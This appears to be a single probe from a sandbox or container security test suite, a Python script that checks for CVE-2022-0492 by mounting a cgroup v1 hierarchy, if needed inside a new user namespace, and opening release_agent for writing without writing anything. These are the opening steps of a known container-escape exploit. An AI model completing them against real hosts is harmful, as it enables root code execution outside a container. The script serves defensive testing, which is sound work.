# /// attack
# guarantee = "filesystem_write"
# summary = "Mounts a control group hierarchy to have the kernel start a program of its choice as the host's root."
# reference = "CVE-2022-0492"
# success = "release_agent can be opened for writing"
# needs = ["root", "cgroup-v1"]
# control = { namespaces = ["mount"], touches = "mounts a control group hierarchy in a namespace of its own; opens release_agent for writing, and writes nothing" }
# refusal = { default = "errno" }
# ///

import os

from kit import CLONE_NEWCGROUP, CLONE_NEWNS, attempt, could_not_run, mount, new_user_namespace, succeeded

os.mkdir("g")
if os.getuid() != 0:
    attempt(lambda: mount("cgroup", "g", "cgroup", 0, "memory"), "EPERM", then=lambda error: None)
    new_user_namespace(CLONE_NEWNS | CLONE_NEWCGROUP)
attempt(lambda: mount("cgroup", "g", "cgroup", 0, "memory"), "EPERM")
if not os.path.exists("g/release_agent"):
    could_not_run("no release_agent here")
attempt(lambda: os.close(os.open("g/release_agent", os.O_WRONLY)), "EACCES", "EPERM", "EROFS")
succeeded()
